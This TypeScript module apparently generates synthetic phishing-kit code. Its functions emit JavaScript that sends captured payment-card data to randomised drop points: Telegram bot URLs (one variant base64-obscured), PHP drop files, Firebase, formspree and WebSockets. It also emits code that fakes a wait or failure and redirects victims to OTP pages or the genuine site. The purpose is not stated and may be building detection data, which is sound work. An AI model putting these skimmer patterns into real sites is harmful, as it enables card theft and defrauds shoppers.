import type { Chance } from '../make/chance.ts'
import { elsewhere } from '../make/kits/drops.ts'

/** An expression that sends the object `d`, and is a promise. */
export type Sink = (chance: Chance) => string

export const takerOf = (chance: Chance): string =>
  chance.of([
    'send.php',
    'card.php',
    'payment.php',
    'handler.php',
    'engine/card.php',
    'api.php?act=card',
    'next.php',
    './inc/log.php',
    'php/order.php',
    'verify.php',
    `${chance.letters(3)}.php`,
    'process/step2.php',
  ])

const text = (chance: Chance) =>
  chance.of([
    'Object.keys(d).map(function(k){return k+": "+d[k]}).join("\\n")',
    '"NEW CARD "+location.host+"\\n"+JSON.stringify(d,null,1)',
    'Object.entries(d).map(e=>e.join(" = ")).join("\\n")',
  ])

const bot: Sink = (chance) => {
  const key = `${chance.digits(10)}:AA${chance.base64(33).replace(/[+/]/g, '_')}`
  const address = chance.of([
    `"https://api.telegram.org/bot${key}/sendMessage"`,
    `"https://api.telegram.org/bot"+"${key}"+"/sendMessage"`,
    `atob("${Buffer.from(`https://api.telegram.org/bot${key}/sendMessage`).toString('base64')}")`,
  ])
  const body = `{chat_id:"-100${chance.digits(10)}",text:${text(chance)}}`
  return `fetch(${address},{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(${body})})`
}

const api: Sink = (chance) =>
  `fetch("${chance.of(['/api/card', '/api/submitCard', 'api/v1/orders/log', '/merchant/send', '/api/create-log', '/ajax/pay'])}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(d)})`

const php: Sink = (chance) => `fetch("${takerOf(chance)}",{method:"POST",body:new URLSearchParams(d)})`

const far: Sink = (chance) =>
  `fetch("${elsewhere(chance)}",{method:"POST",mode:"no-cors",body:JSON.stringify(d)})`

const socket: Sink = (chance) => {
  const host = chance.of([
    `wss://${chance.name(3)}.${chance.of(['com', 'xyz', 'online'])}/ws`,
    '/ws',
    '/socket',
  ])
  const address = host.startsWith('/') ? `location.origin.replace("http","ws")+"${host}"` : `"${host}"`
  return `new Promise(function(ok){try{var s=new WebSocket(${address});s.onopen=function(){s.send(JSON.stringify({type:"${chance.of(['card', 'log', 'submit'])}",data:d}));ok()};s.onerror=function(){ok()}}catch(e){ok()}})`
}

const form: Sink = (chance) =>
  chance.of([
    `fetch("https://formspree.io/f/${chance.letters(8)}",{method:"POST",headers:{Accept:"application/json","Content-Type":"application/json"},body:JSON.stringify(d)})`,
    `fetch("https://${chance.name(3)}-${chance.hex(5)}-default-rtdb.firebaseio.com/${chance.of(['logs', 'cc', 'new'])}.json",{method:"POST",body:JSON.stringify(d)})`,
  ])

export const sinkOf: Sink = (chance) =>
  chance.of([api, api, api, php, php, bot, bot, socket, far, form])(chance)

/** Code that shows what comes after the data is sent: waiting, a refusal, the next page or the true site. */
export const afterOf = (wait: string, failed: string, home: string, show: string, chance: Chance): string =>
  chance.of([
    `${show}(${JSON.stringify(wait)})`,
    `${show}(${JSON.stringify(wait)});setTimeout(function(){${show}(${JSON.stringify(failed)})},${3000 + chance.below(60) * 100})`,
    `${show}(${JSON.stringify(failed)})`,
    `${show}(${JSON.stringify(wait)});setTimeout(function(){location.href=${JSON.stringify(home === '#' ? chance.of(['sms.html', 'push.php', 'otp', 'success.html']) : home)}},${2500 + chance.below(50) * 100})`,
  ])
